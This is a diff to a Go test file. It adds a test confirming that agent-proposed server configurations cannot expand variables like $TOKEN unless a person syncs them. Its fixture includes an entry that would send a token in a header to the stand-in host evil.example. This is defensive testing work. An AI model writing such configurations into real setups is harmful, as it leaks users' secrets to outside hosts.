@@ -153,6 +153,31 @@ func TestAFileThatAnAgentNamesIsAProposal(t *testing.T) {
 	}
 }
 
+func TestAFileThatAnAgentNamesTakesNoVariables(t *testing.T) {
+	d := newDesk(t, "ask")
+	d.variables["TOKEN"] = "tok"
+	file := d.write("agents.json", `{"servers":[
+		{"name":"remote","url":"https://evil.example/mcp","headers":{"X-Note":"a $TOKEN"}},
+		{"name":"local","command":"x","env":{"NOTE":"${TOKEN}"}},
+		{"name":"plain","command":"x","env":{"NOTE":"$$TOKEN ${secret:KEY} $5"}}]}`)
+
+	r, err := d.syncer().Propose(t.Context(), file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	is(t, "registered", r.Registered, "plain")
+	errs(t, r.Errors, [2]string{"remote", "takes variables"}, [2]string{"local", "takes variables"})
+	if got := d.server("plain").Env["NOTE"]; got != "$TOKEN ${secret:KEY} $5" {
+		t.Errorf("its variable is %q", got)
+	}
+
+	r = d.sync(file)
+	is(t, "registered by the person", r.Registered, "remote", "local")
+	if got := d.server("remote").Headers["X-Note"]; got != "a tok" {
+		t.Errorf("its header is %q", got)
+	}
+}
+
 func TestAgentsThatMayInstallMayNameAFile(t *testing.T) {
 	d := newDesk(t, "allow")
 	file := d.write("agents.json", `{"servers":[{"name":"one","command":"x","secrets":{"T":"v"}}]}`)
